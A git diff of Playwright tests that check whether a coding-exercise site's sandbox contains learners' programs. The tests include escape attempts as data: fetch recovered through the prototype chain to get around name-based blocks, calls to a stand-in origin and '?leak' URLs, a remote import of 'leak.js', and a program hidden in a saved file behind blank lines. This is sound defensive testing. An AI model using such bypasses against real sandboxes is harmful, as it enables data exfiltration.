@@ -1,7 +1,8 @@
 import {readFileSync} from "node:fs";
 import {createServer} from "node:http";
 import type {AddressInfo} from "node:net";
-import {expect, type Locator, type Page, test} from "@playwright/test";
+import {expect, type Locator, type Page, type Request, test} from "@playwright/test";
+import {allWays, chain, LOOT, leftBehind, POISONED, runBare} from "../../browser/attacks.ts";
 import {findings, ofColor} from "../../browser/axe.ts";
 import {noStorage} from "../../browser/noStorage.ts";
 import {aThird} from "../../third.ts";
@@ -122,30 +123,92 @@ test("whatever is typed is answered in a sentence, in time, and the page stays a
   expect(trouble).toEqual([]);
 });
 
-test("a program reaches no network by any door: the page's policy holds in its workers", async ({page, baseURL}) => {
-  let reached = 0;
-  const other = createServer((_, response) => {
-    reached++;
+/** Another origin, which counts who asks for anything. */
+async function elsewhere() {
+  const asked: string[] = [];
+  const server = createServer(({url = ""}, response) => {
+    asked.push(url);
     response.writeHead(200, {"access-control-allow-origin": "*", "content-type": "text/javascript"}).end("");
   });
-  await new Promise<void>((resolve) => other.listen(0, "127.0.0.1", resolve));
-  const elsewhere = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
-  const answered: string[] = [];
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const theirs = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  return {asked, theirs, close: () => new Promise<void>((resolve) => server.close(() => resolve()))};
+}
+
+/** The requests from now on that no policy refused. */
+function sending(page: Page) {
+  const all = new Set<Request>();
+  page.on("request", (request) => !request.url().startsWith("blob:") && all.add(request));
+  page.on("requestfailed", (request) => request.failure()?.errorText === "csp" && all.delete(request));
+  return () => Array.from(all, (request) => request.url());
+}
+
+/** Keeps a page in a cache, as a site kept offline does, which a program must leave alone. */
+const keepPage = (path: string) => caches.open("kept").then((cache) => cache.put(path, new Response("kept")));
+const left = (page: Page) => page.evaluate(`(${leftBehind})(${JSON.stringify(LOOT)}, ${JSON.stringify(POISONED)})`);
+const untouched = {caches: [], poisoned: "kept", databases: []};
+
+test("a program hidden in a saved file passes its exercise and leaves nothing: no cache entry, no database, no request", async ({
+  page,
+  baseURL,
+}) => {
+  const {asked, theirs, close} = await elsewhere();
+  const solution = programs.find(({id}) => id === FORWARD)!.solution.join("\n");
+  const value = chain(solution, {theirs, ours: baseURL!});
+  const saved = JSON.stringify({loraLive: 1, items: [{kind: "draft", id: FORWARD, value}]});
+  await page.goto("/progress/");
+  await page
+    .getByLabel("Load a copy")
+    .setInputFiles({name: "copy.json", mimeType: "application/json", buffer: Buffer.from(saved)});
+  await expect(page.locator(".loaded")).toContainText("The file brings a program, here in full.");
+  const program = page.getByRole("region", {name: `Program for ${FORWARD}`});
+  await expect(page.locator(".own-program")).toContainText("87 lines, 62 of them empty");
+  await expect(program).toContainText('addEventListener("error"');
+  expect(await page.evaluate(() => localStorage.length)).toBe(0);
+  await page.getByRole("button", {name: "Add what is new"}).click();
+  await page.locator(".own-data > .needs-script > .keeping").getByRole("button", {name: "Keep"}).click();
+
   const quiz = await open(page, FORWARD);
-  page.on("requestfinished", (request) => answered.push(request.url()));
-  // Behind the doors that are shut by name: the prototype's own fetch, and a word of the language.
-  const fetches = `fetch?.("${elsewhere}").catch(() => {}); fetch?.("${baseURL}/favicon.svg?leak").catch(() => {});`;
-  await run(
-    quiz,
-    `const {fetch} = Object.getPrototypeOf(Object.getPrototypeOf(self));
-     ${fetches.replaceAll("fetch?.(", "fetch?.call(self, ")}
-     import("${elsewhere}/leak.js").catch(() => {});
-     function forward() { const until = Date.now() + 500; while (Date.now() < until); return [5, 7]; }`,
-  );
-  await expect(feedback(quiz)).toContainText("1 of 4 cases pass.");
-  await new Promise<void>((resolve) => other.close(() => resolve()));
-  expect(reached).toBe(0);
-  expect(answered.filter((url) => !url.startsWith("blob:"))).toEqual([]);
+  await page.evaluate(keepPage, POISONED);
+  const sent = sending(page);
+  await quiz.getByRole("button", {name: "Run"}).click();
+  await expect(feedback(quiz)).toContainText("4 of 4 cases pass.");
+  // The same with an error that it swallows: so it is not ended when all cases are done, but by the limit.
+  await quiz.getByLabel("Your function").fill(`${value}\nthrow 1;`);
+  await quiz.getByRole("button", {name: "Run"}).click();
+  await expect(feedback(quiz)).toContainText("was not done after 2 seconds and was ended");
+  expect(page.workers()).toEqual([]);
+  expect(page.frames()).toHaveLength(1);
+  expect(await left(page)).toEqual(untouched);
+  await close();
+  expect(asked).toEqual([]);
+  expect(sent()).toEqual([]);
+});
+
+test("the frame alone keeps a program in, whatever it tries and without any door shut by name", async ({
+  page,
+  baseURL,
+}) => {
+  const {asked, theirs, close} = await elsewhere();
+  await open(page, FORWARD);
+  await page.evaluate(keepPage, POISONED);
+  await page.evaluate((name) => {
+    const heard: unknown[] = [];
+    Object.assign(window, {heard});
+    new BroadcastChannel(name).onmessage = ({data}) => heard.push(data);
+    addEventListener("message", ({data}) => heard.push(data));
+  }, LOOT);
+  const sent = sending(page);
+  const ends = (await page.evaluate(runBare, allWays({theirs, ours: baseURL!}))) as Record<string, string>;
+  expect(Object.keys(ends).length).toBeGreaterThan(30);
+  expect(Object.entries(ends).filter(([, end]) => !/^refused|^silence/.test(end))).toEqual([]);
+  expect(await left(page)).toEqual(untouched);
+  expect(await page.evaluate(() => (window as unknown as {heard: unknown[]}).heard)).toEqual([]);
+  expect(page.url()).toBe(`${baseURL}${PAGE}`);
+  expect(page.context().pages()).toHaveLength(1);
+  await close();
+  expect(asked).toEqual([]);
+  expect(sent()).toEqual([]);
 });
 
 test("the solution waits for a program that was run; hidden cases keep their numbers", async ({page}) => {
